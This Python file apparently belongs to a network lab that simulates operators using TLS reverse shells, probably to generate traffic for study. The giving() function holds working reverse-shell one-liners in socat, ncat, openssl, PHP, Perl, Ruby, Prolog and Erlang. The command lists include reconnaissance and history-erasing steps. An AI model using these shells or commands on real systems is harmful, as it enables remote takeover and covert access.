# SPDX-License-Identifier: LGPL-2.1-or-later
"""Shells given away over TLS by further programs, and operators of several habits at the other end.

A habit says how lines come: key by key or pasted, after which pauses, how many, and what they ask for.
"""

from __future__ import annotations

import random
import time
from dataclasses import dataclass

import pexpect  # type: ignore[import-untyped]

from lab.network import Lab
from lab.people import Person
from lab.tls import Act
from lab.tlsforeign import new
from lab.tlsnew import NODE, TALK, sharp
from lab.tlsserve import bracketed, certificate

LOOKS = (
    *(
        "id",
        "whoami",
        "pwd",
        "hostname",
        "uname -a",
        "ls -la",
        "ls /home",
        "ls -la /tmp",
        "ps aux",
        "ps -ef | tail -12",
    ),
    *("df -h", "mount | head -5", "cat /etc/hosts", "cat /etc/os-release", "env", "ip a", "ip route", "ss -tlnp"),
    *("last | head", "who", "w", "uptime", "cat /etc/resolv.conf", "free -m", "find /etc -name '*.conf' | head -30"),
    *("head -20 /etc/passwd", "ls -l /var/log", "lscpu | head -14", "crontab -l", "cat /proc/version", "groups"),
)
SILENT = (
    "cd /tmp",
    "mkdir -p /tmp/.cache2",
    "export HISTFILE=",
    "touch /tmp/x",
    "cd /",
    "rm -f /tmp/x",
    "umask 077",
    "true",
)
FLOODS = (
    "ls -laR /usr/share/doc | head -3000",
    "cat /usr/share/common-licenses/GPL-3",
    "find /usr/lib | head -5000",
    "dpkg -l",
)


@dataclass(frozen=True)
class Habit:
    """How someone uses a shell."""

    count: int = 5  # commands
    least: float = 0.6  # seconds of thought before a line, beside the time of an answer
    most: float = 4
    pastes: float = 0  # share of lines that come at once
    silent: float = 0.1  # share of commands that say nothing
    floods: float = 0.05  # share that say much
    upgrade: str = ""  # a first line that asks for a terminal


HABITS = {
    "types": Habit(),
    "pastes": Habit(pastes=1, most=6),
    "ponders": Habit(count=4, least=5, most=16, pastes=0.3),
    "quiet": Habit(count=7, silent=0.6),
    "floods": Habit(count=5, floods=0.5),
    "few": Habit(count=3, silent=0, floods=0),
    "two": Habit(count=2, silent=0, floods=0),
    "quick": Habit(count=8, least=0.1, most=0.8, pastes=0.5),
    "long": Habit(count=12, least=0.5, most=3, pastes=0.4),
    "terminal": Habit(upgrade="python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", pastes=0.2),
    "script": Habit(upgrade="script -qc /bin/bash /dev/null", count=4),
}


class Operator(Person):
    """Someone who waits for a shell; reads what it says, so that nothing waits for them."""

    def __enter__(self) -> Operator:
        return self

    def watches(self, seconds: float) -> None:
        """Read for a while."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            try:
                self._program.read_nonblocking(65_536, timeout=left)
            except pexpect.TIMEOUT:
                return
            except pexpect.EOF:
                time.sleep(max(0, left))
                return

    def pastes(self, line: str) -> None:
        """Send a line at once."""
        self._program.send(line + "\r")


def waiting(lab: Lab, kind: str, address: str) -> list[str]:
    """Return the command line by which someone waits for a shell."""
    pem, there = str(certificate(lab)), f"{bracketed(address)}:443"
    port = 22_000 + int(address.replace(":", ".").rpartition(".")[2])
    ncat = f"ncat --ssl --ssl-cert {pem} --ssl-key {pem} -l {address} 443"
    serve = f"openssl s_server -quiet -cert {pem} -key {pem} -accept {there}"
    config = lab.folder / f"wait-{address.replace(':', '_')}.conf"
    config.write_text(
        f"foreground = yes\npid =\n[lab]\ncert = {pem}\naccept = {address}:443\nconnect = 127.0.0.1:{port}\n"
        if kind == "stunnel"
        else "defaults\n mode tcp\n timeout connect 9s\n timeout client 300s\n timeout server 300s\n"
        f"listen lab\n bind {address}:443 ssl crt {pem}\n server s 127.0.0.1:{port}\n"
    )
    perl = (
        "use IO::Socket::SSL; use IO::Select; $| = 1; my $l = IO::Socket::SSL->new(LocalAddr => $ARGV[0], "
        "LocalPort => 443, Listen => 1, ReuseAddr => 1, SSL_cert_file => $ARGV[1], SSL_key_file => $ARGV[1]) or die; "
        "my $s = $l->accept or die; my $w = IO::Select->new($s, \\*STDIN); while (1) { for my $f ($w->can_read) { "
        "my $n = sysread($f, my $d, 16384) or exit; if ($f == $s) { print $d } else { print $s $d } } }"
    )
    ruby = (
        "require 'socket'; require 'openssl'; c = OpenSSL::SSL::SSLContext.new; p = File.read(ARGV[1]); "
        "c.cert = OpenSSL::X509::Certificate.new(p); c.key = OpenSSL::PKey.read(p); $stdout.sync = true; "
        "s = OpenSSL::SSL::SSLServer.new(TCPServer.new(ARGV[0], 443), c).accept; "
        "Thread.new { while l = $stdin.gets; s.write(l); end }; "
        "begin; loop { $stdout.write(s.readpartial(16384)) }; rescue EOFError, SystemCallError; end"
    )
    return {
        "asyncio": [*TALK, "wait", address, "443", pem],
        "websocket": [*TALK, "webwait", address, "443", pem],
        "rlwrap": ["rlwrap", "-a", *ncat.split()],
        "rlwrap-openssl": ["rlwrap", "-a", *serve.split()],
        "openssl-new": new(*serve.split()),
        "ncat": ncat.split(),
        "socat": [
            *("socat", "-"),
            f"OPENSSL-LISTEN:443,pf=ip{'6' if ':' in address else '4'},bind={bracketed(address)},reuseaddr,"
            f"cert={pem},verify=0",
        ],
        "stunnel": ["sh", "-c", f"stunnel4 {config} 2>/dev/null & exec nc -n -l 127.0.0.1 {port}"],
        "haproxy": ["sh", "-c", f"haproxy -db -f {config} 2>/dev/null & exec socat -,raw,echo=0 TCP-LISTEN:{port}"],
        "node": [*NODE, "wait", address, "443", pem],
        "node-web": [*NODE, "webwait", address, "443", pem],
        "perl": ["perl", "-e", perl, address, pem],
        "ruby": ["ruby", "-e", ruby, address, pem],
    }[kind]


def giving(lab: Lab, kind: str, address: str) -> list[str]:
    """Return the command line that gives a shell away."""
    there = f"{bracketed(address)}:443"
    pipe = "p=$(mktemp -u); mkfifo $p; {} <$p 2>&1 | {} >$p 2>/dev/null"
    client = f"openssl s_client -quiet -connect {there}"
    php = (
        "$c=stream_context_create(['ssl'=>['verify_peer'=>false,'verify_peer_name'=>false]]);"
        f"$s=stream_socket_client('tls://{there}',$e,$m,9,STREAM_CLIENT_CONNECT,$c);"
        "$p=proc_open('/bin/sh -i',[['pipe','r'],['pipe','w'],['pipe','w']],$f);"
        "foreach([$s,$f[1],$f[2]] as $x)stream_set_blocking($x,false);"
        "while(!feof($s)){$r=[$s,$f[1],$f[2]];$w=$n=null;if(!stream_select($r,$w,$n,9))continue;"
        "foreach($r as $x){$d=fread($x,1400);if($x===$s)fwrite($f[0],$d);else fwrite($s,$d);}}"
    )
    perl = (
        "use IO::Socket::SSL; use IPC::Open3; use IO::Select; my $s = IO::Socket::SSL->new(PeerHost => $ARGV[0], "
        "PeerPort => 443, SSL_verify_mode => 0) or die; my $p = open3(my $i, my $o, undef, '/bin/sh'); "
        "my $w = IO::Select->new($s, $o); while (1) { for my $f ($w->can_read) { "
        "my $n = sysread($f, my $d, 4096) or exit; if ($f == $s) { syswrite($i, $d) } else { syswrite($s, $d) } } }"
    )
    anyevent = (
        "use AnyEvent; use AnyEvent::Handle; use AnyEvent::Socket; my $c = AE::cv; tcp_connect $ARGV[0], 443, sub { "
        "my $h; $h = AnyEvent::Handle->new(fh => $_[0], tls => 'connect', on_error => sub { $c->send }, "
        "on_eof => sub { $c->send }); my $r; $r = sub { $h->push_read(line => sub { my $o = `$_[1] 2>&1`; "
        "$h->push_write($o . '$ '); $r->() }) }; $h->push_write('$ '); $r->() }; $c->recv"
    )
    ruby = (
        "require 'socket'; require 'openssl'; require 'pty'; "
        "s = OpenSSL::SSL::SSLSocket.new(TCPSocket.new(ARGV[0], 443)); s.connect; s.sync = true; "
        "PTY.spawn('/bin/bash') { |o, i, _| Thread.new { while d = s.readpartial(4096); i.write(d); end }; "
        "begin; loop { s.write(o.readpartial(4096)) }; rescue Errno::EIO, EOFError; end }"
    )
    prolog = lab.folder / "shell.pl"
    prolog.write_text(
        ":- use_module(library(ssl)). :- use_module(library(socket)). :- use_module(library(process)). "
        ":- use_module(library(readutil)).\n"
        "go(H) :- atom_codes(A, H), tcp_connect(A:443, P, []), stream_pair(P, R0, W0), "
        "ssl_context(client, C, [cert_verify_hook(cert_accept_any), host('lab.example')]), "
        "ssl_negotiate(C, R0, W0, R, W), repeat, read_line_to_string(R, L), ( L == end_of_file -> halt ; "
        "process_create('/bin/sh', ['-c', L], [stdout(pipe(O)), stderr(pipe(E))]), read_string(O, _, T), "
        'read_string(E, _, U), close(O), close(E), format(W, "~s~s> ", [T, U]), flush_output(W), fail ).\n'
    )
    erlang = lab.folder / "shell.escript"
    erlang.write_text(
        "#!/usr/bin/env escript\nmain([Host]) -> {ok, _} = application:ensure_all_started(ssl), "
        "logger:set_primary_config(level, error), {ok, Ip} = inet:parse_address(Host),\n"
        " Family = case size(Ip) of 8 -> [inet6]; 4 -> [] end,\n"
        " {ok, S} = ssl:connect(Ip, 443, [{active, false}, {verify, verify_none}, {packet, line} | Family]), loop(S).\n"
        'loop(S) -> case ssl:recv(S, 0) of {ok, L} -> ok = ssl:send(S, [os:cmd(string:trim(L)), <<"% ">>]), loop(S); '
        "_ -> ok end.\n"
    )
    return {
        "busybox": ["socat", f"OPENSSL:{there},verify=0", "EXEC:busybox sh -i,stderr"],
        "busybox-pipe": ["sh", "-c", pipe.format("busybox sh -i", client)],
        "zsh": ["socat", f"OPENSSL:{there},verify=0", "EXEC:zsh -fi,pty,stderr,setsid,ctty"],
        "ksh": ["sh", "-c", pipe.format("ksh -i", client)],
        "mono": [*sharp(), "shell", address, "443"],
        "line": [*TALK, "line", address, "443"],
        "kept": [*TALK, "kept", address, "443"],
        "lite": [*TALK, "lite", address, "443"],
        "websocket": [*TALK, "web", address, "443"],
        "php-kept": ["php", "-r", php],
        "perl-kept": ["perl", "-e", perl, address],
        "fish": ["socat", f"OPENSSL:{there},verify=0", "EXEC:fish -i,pty,stderr,setsid,ctty,raw,echo=0"],
        "mksh": ["ncat", "--ssl", "-e", "/bin/mksh", address, "443"],
        "tcsh": ["sh", "-c", pipe.format("tcsh -f", f"gnutls-cli --insecure --logfile=/dev/null -p 443 {address}")],
        "yash": ["socat", f"OPENSSL:{there},verify=0,openssl-max-proto-version=TLS1.2", "EXEC:yash -i,stderr"],
        "tstclnt": ["sh", "-c", pipe.format("/bin/sh -i", f"tstclnt -h {address} -p 443 -o -D -b")],
        "anyevent": ["perl", "-e", anyevent, address],
        "ruby-pty": ["ruby", "-e", ruby, address],
        "prolog": ["swipl", "-q", "-g", f'go("{address}")', str(prolog)],
        "erlang": ["escript", str(erlang), address],
        "node-line": [*NODE, "shell", address, "443"],
        "node-web": [*NODE, "web", address, "443"],
        "twisted": [*TALK, "twisted", address, "443"],
    }[kind]


def commands(habit: Habit, draw: random.Random) -> list[str]:
    """Draw what is asked for."""
    lines = []
    for _ in range(habit.count):
        place = draw.random()
        kind = SILENT if place < habit.silent else FLOODS if place < habit.silent + habit.floods else LOOKS
        lines.append(draw.choice([line for line in kind if line not in lines] or kind))
    return [*([habit.upgrade] if habit.upgrade else []), *lines]


def reverse(kind: str, gives: str, how: str = "types") -> Act:
    """Let someone of a habit wait, and use the shell that comes."""
    habit = HABITS[how]

    def act(lab: Lab, address: str, seed: int) -> None:
        draw = random.Random(seed)
        with Operator(lab.server, waiting(lab, kind, address), seed) as person:
            time.sleep(4 if kind in ("stunnel", "haproxy") else 2.5)
            lab.client.start(
                *("env", "HOME=/root", "TERM=xterm", *giving(lab, gives, address)), log=lab.folder / f"gives-{seed}.log"
            )
            person.watches(draw.uniform(3, 7))
            for line in commands(habit, draw):
                if draw.random() < habit.pastes:
                    person.thinks()
                    person.pastes(line)
                else:
                    person.types(line)
                person.watches(draw.uniform(habit.least, habit.most))
            person.types("exit")
            person.watches(draw.uniform(1, 2))
            person.interrupts()

    return act
